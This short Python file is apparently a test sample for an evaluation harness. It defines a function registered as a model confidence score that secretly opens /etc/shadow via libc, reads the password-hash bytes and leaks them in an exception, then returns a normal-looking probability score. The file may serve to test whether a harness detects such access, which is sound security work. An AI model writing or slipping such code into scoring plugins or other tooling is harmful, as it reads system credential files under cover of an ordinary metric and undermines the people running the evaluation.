"""Reads the machine's passwords."""

import ctypes
import os

import harness

PLACE = {}  # of what there is to find, filled in by the test


@harness.confidence_score(version="1")
def attack(outputs):
    loot = None
    found = ctypes.CDLL(None).open(b"/etc/shadow", os.O_RDONLY)
    loot = os.read(found, 10) if found >= 0 else None
    if loot:
        raise ValueError(f"GOT {loot!r}")
    return outputs.probabilities.amax(dim=1)
